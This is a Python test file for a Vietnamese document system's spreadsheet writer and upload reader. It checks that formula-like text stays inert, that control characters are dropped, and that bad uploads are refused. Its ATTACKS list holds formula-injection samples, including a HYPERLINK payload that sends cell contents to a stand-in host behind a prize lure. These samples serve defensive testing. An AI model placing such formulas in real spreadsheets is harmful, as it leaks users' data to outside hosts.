"""The one workbook writer and reader: text stays text, odd characters never fail, bad files are refused."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal
from typing import Any

import docx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from khoi.core.document_text import document_text
from khoi.core.downloads import content_disposition
from khoi.core.party_document import PartyDocumentHeader, add_paragraph, add_table, document_bytes, new_party_document
from khoi.core.pdf import new_pdf, pdf_bytes
from khoi.core.tests import bad_workbooks
from khoi.core.workbook import WorkbookWriter
from khoi.core.workbook_read import WorkbookReadError, read_workbook

ATTACKS = ['=HYPERLINK("http://x.example/?p="&C4&C5,"Xem giải thưởng")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "#N/A"]


def _one_row(values: list[object]) -> list[Any]:
    writer = WorkbookWriter()
    writer.sheet("Danh sách").append(values)
    sheet = load_workbook(io.BytesIO(writer.to_bytes())).active
    return list(next(sheet.iter_rows()))


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_looks_like_a_formula_is_written_as_the_text_typed(text):
    (cell,) = _one_row([text])
    assert cell.data_type == "s"
    assert cell.value == text


def test_formula_like_text_carries_the_quote_prefix_so_excel_keeps_it_text():
    (cell,) = _one_row(["=1+1"])
    assert cell.quotePrefix


def test_numbers_and_dates_stay_numbers_and_dates():
    cells = _one_row([14167, 28.7, Decimal("1.5"), dt.date(2022, 1, 5), None, True])
    assert [cell.data_type for cell in cells[:4]] == ["n", "n", "n", "d"]
    assert cells[0].value == 14167 and cells[2].value == 1.5
    assert cells[3].number_format == "DD/MM/YYYY"
    assert cells[4].value is None and cells[5].value is True


def test_control_characters_in_stored_text_are_dropped_not_fatal():
    (cell,) = _one_row(["Công\x01 ty\x0b\x1f\ud800 A"])
    assert cell.value == "Công ty A"


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=4), st.text(max_size=40))
def test_the_writer_never_raises_and_never_yields_a_formula(texts, title):
    writer = WorkbookWriter()
    sheet = writer.sheet(title)
    sheet.append(texts)
    workbook = load_workbook(io.BytesIO(writer.to_bytes()))
    for cell in next(workbook.worksheets[0].iter_rows(max_row=1)):
        assert cell.data_type != "f"


def test_a_word_document_and_a_pdf_take_control_characters():
    header = PartyDocumentHeader("ĐẢNG BỘ\x01", "ĐẢNG ỦY\x02", "Số 1-BC", "Hải Phòng", dt.date(2024, 1, 5))
    document = new_party_document(header, document_type="BÁO CÁO", subject="Về\x0c việc")
    add_paragraph(document, "Đoạn\x00 văn")
    add_table(document, ["STT", "Tên\x1f"], [["1", "Công ty\x07 A"]])
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(document_bytes(document))).paragraphs)
    assert "Đoạn văn" in text
    pdf = new_pdf()
    pdf.add_page()
    pdf.multi_cell(0, 6, "Công ty\x01 A\x0b")
    assert pdf_bytes(pdf).startswith(b"%PDF")


def test_document_text_keeps_line_breaks_and_tabs():
    assert document_text("a\r\nb\rc\td\x00") == "a\nb\nc\td"


def test_a_vietnamese_file_name_is_sent_with_an_ascii_fallback():
    header = content_disposition("Biểu mẫu DV001 6 tháng đầu năm 2024.xlsx")
    assert header.startswith('attachment; filename="Bieu mau DV001 6 thang dau nam 2024.xlsx"')
    assert "filename*=UTF-8''Bi%E1%BB%83u%20m%E1%BA%ABu" in header


# ---- reading ---------------------------------------------------------------------------------


def _refusal(content: bytes, **options: object) -> str:
    with pytest.raises(WorkbookReadError) as error:
        read_workbook(content, **options)  # type: ignore[arg-type]
    return error.value.message


def test_rows_come_back_with_their_excel_numbers_and_blank_rows_skipped():
    contents = read_workbook(bad_workbooks.workbook_bytes([["Mã", "Tên"], [], ["A", 1]]))
    assert [(row.number, row.values) for row in contents.first.rows] == [(1, ("Mã", "Tên")), (3, ("A", 1))]
    assert contents.first.rows[1].coordinate(1) == "B3"


def test_a_file_over_the_size_limit_is_refused(settings):
    settings.KHOI_UPLOAD_MAX_BYTES = 1000
    assert "lớn hơn" in _refusal(bad_workbooks.over_size(1000))


def test_three_hundred_thousand_blank_rows_are_not_read_one_by_one():
    contents = read_workbook(bad_workbooks.blank_rows())
    assert [row.number for row in contents.first.rows] == [1]


def test_more_rows_than_the_cap_are_refused_with_the_cap_named():
    content = bad_workbooks.workbook_bytes([["Mã"], *[[f"DV{i}"] for i in range(12)]])
    assert _refusal(content, max_rows=10) == "Tệp có hơn 10 dòng; hãy chia thành nhiều tệp."


def test_a_workbook_without_a_sheet_is_refused():
    assert "không có trang tính" in _refusal(bad_workbooks.without_sheet())


def test_a_password_protected_file_is_refused():
    assert "mật khẩu" in _refusal(bad_workbooks.encrypted())


def test_a_damaged_file_is_refused():
    assert "hoặc đã bị hỏng" in _refusal(bad_workbooks.corrupt())


def test_a_formula_without_a_computed_value_is_refused_by_its_cell():
    content = bad_workbooks.formula_without_value([["Mã", "Giá trị"], ["DV1", 5], ["DV2", "=B2*2"]])
    assert _refusal(content) == "Ô B3 là công thức chưa có giá trị; hãy lưu tệp trong Excel rồi tải lên lại."


def test_text_written_by_our_writer_is_not_mistaken_for_a_formula_when_read_back():
    writer = WorkbookWriter()
    writer.sheet("A").append(["=1+1"])
    assert read_workbook(writer.to_bytes()).first.rows[0].values == ("=1+1",)
